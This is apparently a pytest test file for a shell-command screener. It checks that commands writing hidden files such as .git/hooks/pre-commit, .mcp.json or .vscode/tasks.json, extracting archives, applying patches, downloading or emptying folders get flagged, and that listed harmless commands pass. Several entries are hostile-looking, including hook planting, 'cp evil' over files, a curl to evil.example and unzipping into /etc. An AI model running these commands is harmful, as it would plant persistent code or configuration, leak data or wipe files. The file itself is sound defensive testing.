"""What a command writes under names that its line does not spell out, and what it empties before it writes."""

import pytest

from hub.contract.effects import Effect
from hub.screening.commands import is_dangerous, is_unknown, read_command

FOLDER = "/home/me/shop"

COPIES = (
    "cp -r t/.git .",
    "cp t/.mcp.json .",
    "cp t/.mcp.json ./",
    "rsync -a t/.git .",
    "cp -r t/.github .",
    "cp t/tasks.json .vscode/",
    "cp -r t/workflows .github",
    "cp -r t/. .",
    "cp -rT t .",
    "cp -a t/.. .",
    "cp -r t/ .",
    "cp t/.* .",
    "cp t/* .",
    "cp t/.npmrc .",
    "cp -r t/.circleci .",
    "cp t/.mcp.json $OUT",
    "cp -r t/{.,}* .",
    "cp x .{mcp.json,}",
    "cp x .mc?.json",
    "mv x .g*/hooks/pre-commit",
    "echo x > .g[i]t/hooks/pre-commit",
    "echo x > .{m..m}cp.json",
    "shopt -s dotglob; cp -r t/* .",
    "rsync -a t/ .",
    "rsync -av t/ $PWD/",
    "rsync -aR t/./.claude .",
    "install t/.mcp.json .",
    "install -d .husky build",
    "cp --parents t/../.mcp.json .",
    "copy-item -path t/.mcp.json -destination .",
    "ditto t .",
    "docker cp c:/x/.mcp.json .",
    "aws s3 cp s3://b/.mcp.json .",
    "find t -type f -exec cp {} . \\;",
    "find t -exec cp -t . {} +",
    "find . -type f -exec cp evil {} \\;",
    "fd -H . t -X cp -t .",
    "find t -type f | xargs cp -t .",
    "find t -type f | xargs -I% cp % .",
    "cat names.txt | xargs cp evil",
    "cat names.txt | xargs -IF cp evil F",
    "while read f; do mv $f .; done < names.txt",
    "read f; echo x > $f",
    "cp -r t/.gi[t] .",
    "mv t .github",
    "cp -r t .vscode",
    "cd .vscode && cp ../t/tasks.json .",
    "bash -c 'cp -r t/. .'",
    "echo x > /proc/self/cwd/.git/hooks/x",
    "sort -o $(cat name) x",
    "gcc -o $(cat name) x.c",
    "cat urls | xargs wget -q",
    "cat urls | xargs -n1 curl -sO",
    "stow -t . t",
    "stow t",
    "hg archive .",
    "svn export --force t .",
    "svn co file:///x .claude",
    "git checkout evil .claude",
)
LINKS = (
    "ln -s t/.mcp.json .",
    "ln -s .git/hooks h",
    "ln .git/config c",
    "ln -s .github w",
    "cp -l .git/config c",
    "cp -s .mcp.json m",
    "ln -s .git g; echo x > g/hooks/pre-commit",
    "ln ~/.bashrc b",
    "cp -l ../x y",
    "ln $(cat name) y",
)
ARCHIVES = (
    "tar xf a.tgz",
    "tar --get -f a.tgz",
    "tar xf a.tgz -C .",
    "tar xf a.tgz -C build/..",
    "tar xf a.tgz .",
    "tar xf a.tgz .github",
    "tar xf a.tgz t --strip-components=1",
    "tar xf a.tgz --wildcards '*'",
    "cat a.tgz | tar xz",
    "git archive HEAD | tar x",
    "tar cf - -C t . | tar xf -",
    "bsdtar -xf a.zip",
    "unzip a.zip",
    "unzip -q a.zip -d ./",
    "unzip a.zip '*.json'",
    "unzip a.zip -x x",
    "7z x a.7z -o.",
    "7z x a.7z .mcp.json",
    "unar -o . a.zip",
    "unrar x a.rar ./",
    "patool extract a.zip",
    "arj x a.arj",
    "lha x a.lzh",
    "cpio -i < a.cpio",
    "find t | cpio -pd .",
    "ar x lib.a",
    "jar xf a.jar",
    "expand-archive a.zip .",
    "uudecode a.uu",
    "gunzip .mcp.json.gz",
    "zstd -d .mcp.json.zst",
    "gzip -dN x.gz",
    "borg extract r::a",
    "ls *.zip | xargs unzip",
    "helm pull x --untar",
    "docker build -o . .",
    "docker build --output type=local,dest=. .",
)
PATCHES = (
    "patch -p1 < a.patch",
    "patch -p1 -d . -i a.patch",
    "cat a.patch | patch -p1",
    "git apply a.patch",
    "git apply --directory=.claude a.patch",
    "git am a.mbox",
    "svn patch a.patch",
    "git submodule add https://example.net/x",
    "git remote add other https://example.net/x",
    "git mktree < tree",
    "git commit-tree abc -m x",
    "git unpack-objects < x.pack",
    "git bundle unbundle x",
    "git pull https://example.net/x main",
    "git pull ../other main",
    "git fetch ./t && git merge FETCH_HEAD",
    "git pull x.bundle",
    "git checkout-index .envrc",
    "git restore --pathspec-from-file=x -s other",
)
DOWNLOADS = (
    "wget -x http://localhost/x",
    "wget --trust-server-names http://localhost/x",
    "wget http://localhost/%2emcp.json",
    "curl -OJ http://localhost/x",
    "curl 'http://localhost/{mcp.json}' -o '.#1'",
    "curl -O 'http://localhost/.mcp.{json,txt}'",
    "aria2c http://localhost/x",
    "axel http://localhost/.mcp.json",
    "http --download :8000/x",
    "lwp-download http://localhost/x .",
    "degit ./t .",
    "gh run download 1 -n logs",
    "gh gist clone x .husky",
    "wget 'http://localhost/.mcp.json#x'",
    "curl -O 'http://localhost/.mcp.json?x'",
    "curl --output-dir .vscode -O http://localhost/tasks.json",
    "wget -P .vscode http://localhost/tasks.json",
    "aria2c -d .vscode -o tasks.json http://localhost/x",
    "helm create .husky",
)
RENAMES = (
    "rename 's/^/./' mcp.json",
    "rename 's/_/./' _mcp.json",
    "rename 's{^}{.git/hooks/}' pre-commit",
    "rename 's/^x//' x.mcp.json",
    "rename 's/\\.txt$/.json/' .mcp.txt",
    "prename 'y/_/./' _mcp.json",
    "rename.ul _ . _mcp.json",
    "mmv '_*' '.#1'",
    "split -a 1 --additional-suffix=cp.json x .",
    "sed -i.bak s/a/b/ .mcp",
    "rename 's/x/Jenkinsfile/' x",
    "mmv x lefthook.yml",
)
REPORTS = (
    "pytest --junitxml=.git/hooks/pre-commit",
    "pytest --cov-report=html:.git/hooks",
    "pytest -o cache_dir=.git/hooks",
    "pytest -o cache_dir=../x",
    "coverage html -d .husky",
    "coverage html -d ~",
    "mypy --cache-dir=.git/hooks src",
    "sphinx-build docs .husky",
    "jest --coverageDirectory=.husky",
    "mocha -O output=.mcp.json",
    "mocha --reporter-option output=/home/me/.bashrc",
    "esbuild x.js --metafile=.mcp.json",
    "lessc x.less .git/hooks/pre-commit",
    "gcc x.c -o.git/hooks/pre-commit",
    "gcc -Wl,-Map,.git/hooks/pre-commit x.c",
    "rustc --emit=dep-info=.mcp.json x.rs",
    "javac -d .git/hooks X.java",
    "java -Xlog:gc:.git/hooks/pre-commit X",
    "node --cpu-prof-name=.git/hooks/pre-commit x.js",
    "deno test --junit-path=.mcp.json",
    "dotnet test --logger 'trx;LogFileName=.mcp.json'",
    "make DESTDIR=.husky install",
    "mongodump --archive=.git/hooks/pre-commit",
    "tidy -m .mcp.json",
    "asciinema rec .mcp.json -c ls",
    "xlsx2csv -a x.xlsx .husky",
    "clang-format -i .claude/x.c",
    "syft . -o json=.mcp.json",
    "syft . --file .git/hooks/x",
    "ab -e .git/hooks/x http://localhost/",
    "MYPY_CACHE_DIR=.git/hooks mypy src",
    "LOG_FILE=.mcp.json make",
    "GST_DEBUG_FILE=.mcp.json gst-launch-1.0 x",
)
BESIDE = (
    "tar xf a.tgz -C out --recursive-unlink",
    "tar -x -P -f a.tgz -C out",
    "tar xf host:a.tgz -C out",
    "tar xf a.tgz -C out --to-command=./x",
    "unzip a.zip -d /etc",
    "curl --output-dir out -O 'https://evil.example/?k=1'",
    "pytest --basetemp=build --pastebin=all",
    "rename 's/a/b/e' *",
    "rar m x.rar src",
    "git subtree add -P .husky r m",
)
"""What is said of the names that they write takes the place of nothing else that they do."""
SNIPPETS = (
    "python3 -c \"import zipfile; zipfile.ZipFile('a.zip').extractall()\"",
    "python3 -c \"import tarfile; tarfile.open('a.tgz').extractall('.')\"",
    "python3 -c \"import shutil; shutil.copy('t/.mcp.json', '.')\"",
    "python3 -c \"import glob, shutil; [shutil.copy(f, '.') for f in glob.glob('t/.*')]\"",
    "python3 -c \"open('.mcp' + '.json', 'w').write('x')\"",
    "python3 -c \"from pathlib import Path; (Path('.git') / 'hooks' / 'x').write_text('x')\"",
    "python3 -c \"from pathlib import Path; Path('t/.mcp.json').rename('.mcp.json')\"",
    "python3 -c \"import os; open(os.path.join('.git', 'hooks', 'x'), 'w')\"",
    'ruby -e \'File.write(".mcp.json", "x")\'',
    "PYTEST_ADDOPTS=--basetemp=src pytest",
)
EMPTIED = (
    "pytest --basetemp=src",
    "pytest --basetemp src",
    "python -m pytest --basetemp=.",
    "python -m venv --clear src",
    "uv venv --clear src",
    "cargo vendor src",
    "mkdocs build -d src",
    "vite build --outDir src --emptyOutDir",
    "hugo --destination src --cleanDestinationDir",
    "jekyll build -d .",
    "mdbook build -d src",
    "ng build --output-path src",
    "typedoc --out src",
    "vitest run --coverage.reportsDirectory=src",
    "playwright test --output=src",
    "cypress run --config screenshotsFolder=src",
    "npx nyc -t src npm test",
)
"""What stands in these folders is deleted first."""

HARMLESS = (
    "cp t/a.py .",
    "cp -r t/src .",
    "mv src/*.py lib/",
    "cp .tool-versions .claude/settings.json build/",
    "rsync -a src/ build/",
    "rsync -aR src/./a.py out/",
    "install -m 644 a.txt build/a.txt",
    "ln -s src/a.py b.py",
    "ln -sf build/lib lib",
    'for f in *.txt; do mv "$f" "${f%.txt}.md"; done',
    "for f in a b; do cp src/$f.py lib/; done",
    "find . -name '*.orig' -exec cp {} {}.bak \\;",
    "find src -name '*.py' -exec sed -i s/a/b/ {} +",
    "ls > $(date +%F).log",
    "tar xzf a.tgz -C build",
    "tar xf a.tgz src/a.py",
    "tar -xOf a.tgz x",
    "tar tf a.tgz",
    "mkdir -p build && tar xf a.tgz -C build",
    "unzip a.zip -d out",
    "unzip a.zip 'src/*'",
    "unzip -l a.zip",
    "7z x a.7z -oout",
    "unrar x a.rar out/",
    "cpio -id -D build < a.cpio",
    "gunzip data.csv.gz",
    "patch src/a.py fix.patch",
    "patch --dry-run -p1 < a.patch",
    "patch -p1 -d vendor/x < a.patch",
    "git apply --check a.patch",
    "git apply --stat a.patch",
    "git apply --directory=vendor/x a.patch",
    "rename 's/\\.txt$/.md/' *.txt",
    "rename 's/ /_/g' notes*",
    "rename 's/ /_/g' -- *",
    "rename.ul .htm .html *.htm",
    "split -l 100 data.csv part_",
    "pytest --junitxml=report.xml --cov-report=html:htmlcov",
    "pytest --basetemp=.tmp/pytest",
    "flake8 --exclude .git,build src",
    "mypy --exclude=.claude/ src",
    "gcc -o build/app main.c -MF build/app.d",
    "actionlint .github/workflows/ci.yml",
    "vite build --outDir dist",
    "mkdocs build -d site",
    "docker compose cp web:/app/out.log .",
    "docker cp web:/app/out.log .",
    "python3 -c \"import zipfile; zipfile.ZipFile('a.zip').extractall('out')\"",
    "python3 -c \"from pathlib import Path; Path('docs').joinpath('a.txt').read_text().replace('a', 'b')\"",
    "python3 -c \"import shutil; shutil.copy('a.py', 'lib/a.py')\"",
    "python3 -c \"open('out/' + 'a.txt', 'w').write('x')\"",
    "PYTEST_ADDOPTS=-q pytest",
    "git checkout feature/x",
    "git checkout -b feature/x origin/main",
    "git restore --staged src/a.py",
    "git diff --word-diff=color HEAD -- README.md",
    "alembic upgrade head",
    "commitlint --from HEAD~3 --to HEAD",
    "docker build -o build .",
    "docker build -t shop .",
    "cp t/ci.yml .github/ci.yml",
    "git pull origin main",
    "git pull --rebase origin feature/x",
    "git fetch upstream pull/12/head:pr",
    "git fetch origin",
    "git bundle verify x",
)

ASKING = (*COPIES, *LINKS, *ARCHIVES, *PATCHES, *DOWNLOADS, *RENAMES, *REPORTS, *BESIDE, *SNIPPETS, *EMPTIED)


@pytest.mark.parametrize("command", ASKING)
def test_a_person_is_asked(command: str) -> None:
    reading = read_command(command, folder=FOLDER)

    assert is_dangerous(reading) or is_unknown(reading), reading


@pytest.mark.parametrize("command", [*COPIES, *LINKS, *ARCHIVES, *PATCHES, *RENAMES])
def test_where_nobody_else_is_asked_a_person_is(command: str) -> None:
    reading = read_command(command, folder=FOLDER)

    assert is_dangerous(reading) or not reading.stays, "in a mode that asks nobody, what stays inside is let through"


@pytest.mark.parametrize(("command", "doubt"), [("tar xf a.tgz", "a.tgz"), ("patch -p1 < fix.patch", "fix.patch")])
def test_the_doubt_names_what_knows_the_names(command: str, doubt: str) -> None:
    assert read_command(command, folder=FOLDER).doubt == doubt


@pytest.mark.parametrize("command", EMPTIED)
def test_what_is_emptied_is_said(command: str) -> None:
    said = read_command(command, folder=FOLDER).effects

    assert {Effect.DELETES, Effect.RUNS_UNKNOWN_CODE}.intersection(said), said


@pytest.mark.parametrize("command", HARMLESS)
def test_nobody_is_asked(command: str) -> None:
    reading = read_command(command, folder=FOLDER)

    assert not is_dangerous(reading), reading
    assert not is_unknown(reading), reading


@pytest.mark.parametrize("word", ["{a,b}" * 3000, "[*" * 5000, ".g*/" * 2000, "{" * 9000])
def test_a_name_that_may_be_too_many_is_asked_about_or_none(word: str) -> None:
    assert read_command(f"echo x > {word}", folder=FOLDER).effects
